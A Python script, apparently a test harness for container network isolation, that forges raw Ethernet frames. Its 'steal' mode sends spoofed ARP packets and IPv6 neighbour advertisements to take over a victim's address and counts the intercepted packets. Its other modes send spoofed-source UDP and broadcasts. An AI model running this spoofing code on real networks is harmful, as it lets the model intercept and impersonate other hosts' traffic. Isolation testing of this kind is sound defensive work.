"""What a hostile container may put on its wire: frames made by hand, from within its network namespace.

forge.py steal ADDRESS STATION SECONDS [ADDRESS6]: says to be who has that address on the link, and prints how many packets for him came here.
forge.py datagrams SOURCE,DESTINATION,STATION...: sends datagrams of UDP to port 5006, which say this too.
forge.py shout PORT: sends "heard" to everybody on the link, by broadcast and to groups.
"""
import ipaddress
import socket
import struct
import sys
import time

EVERYBODY = b"\xff" * 6


def raw():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
    wire.bind(("eth0", 0))
    return wire


def station(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip4(source, destination, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, source, destination)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(port, text):
    return struct.pack("!HHHH", 5006, port, 8 + len(text), 0) + text


def arp(operation, sender_station, sender, target_station, target):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_station, sender, target_station, target)


def advertisement(source, target, at):
    body = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, target, 2, 1, at)
    destination = socket.inet_pton(socket.AF_INET6, "ff02::1")
    pseudo = source + destination + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB16s16s", 0x60000000, len(body), 58, 255, source, destination) + body


def lies(me, victim, his_station, victim6):
    gateway = victim[:3] + b"\x02"
    frame = lambda to, sender, kind, rest: to + sender + struct.pack("!H", kind) + rest
    # His address is here: asked, answered, and as a packet of his.
    yield frame(EVERYBODY, me, 0x806, arp(1, me, victim, b"\0" * 6, gateway))
    yield frame(EVERYBODY, me, 0x806, arp(2, me, victim, EVERYBODY, victim))
    yield frame(EVERYBODY, me, 0x800, ip4(victim, gateway, 17, udp(9, b"x")))
    # He himself is here, behind this port.
    yield frame(EVERYBODY, his_station, 0x806, arp(1, his_station, victim, b"\0" * 6, gateway))
    if victim6:
        group = station("33:33:00:00:00:01")
        own = victim6[:15] + bytes([raw_number()])
        for source in (victim6, own):
            yield frame(group, me, 0x86DD, advertisement(source, victim6, me))


def raw_number():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.10", 9))
        return int(probe.getsockname()[0].split(".")[3])


def steal(address, his_station, seconds, address6=""):
    victim, victim6 = socket.inet_aton(address), address6 and ipaddress.IPv6Address(address6).packed
    wire = raw()
    me = wire.getsockname()[4]
    wire.settimeout(0.02)
    stolen, end, next_lie = 0, time.monotonic() + float(seconds), 0.0
    while time.monotonic() < end:
        if time.monotonic() > next_lie:
            next_lie = time.monotonic() + 0.05
            for lie in lies(me, victim, station(his_station), victim6):
                wire.send(lie)
        try:
            frame, (_, _, kind, *_) = wire.recvfrom(65536)
        except TimeoutError:
            continue
        if kind == 4:  # PACKET_OUTGOING: our own
            continue
        for_him = frame[12:14] == b"\x08\0" and frame[30:34] == victim
        for_him6 = victim6 and frame[12:14] == b"\x86\xdd" and frame[38:54] == victim6
        stolen += bool(for_him or for_him6)
    print(stolen)


def ip6(source, destination, port, text):
    body = udp(port, text)
    pseudo = source + destination + struct.pack("!II", len(body), 17)
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    return struct.pack("!IHBB16s16s", 0x60000000, len(body), 17, 64, source, destination) + body


def datagrams(*all):
    wire = raw()
    for one in all:
        datagram(wire, *one.split(","))


def datagram(wire, source, destination, gateway):
    source_, destination_ = (ipaddress.ip_address(each) for each in (source, destination))
    text = f"{source} to {destination}".encode()
    if source_.version == 6:
        kind, packet = 0x86DD, ip6(source_.packed, destination_.packed, 5006, text)
    else:
        kind, packet = 0x800, ip4(source_.packed, destination_.packed, 17, udp(5006, text))
    wire.send(station(gateway) + wire.getsockname()[4] + struct.pack("!H", kind) + packet)


def shout(port):
    shouting = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    shouting.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    index = struct.pack("4s4si", b"\0" * 4, b"\0" * 4, socket.if_nametoindex("eth0"))
    shouting.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, index)
    shouting.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    for address in ("255.255.255.255", "224.0.0.1", "224.0.0.251"):
        shouting.sendto(b"heard", (address, int(port)))


{"steal": steal, "datagrams": datagrams, "shout": shout}[sys.argv[1]](*sys.argv[2:])
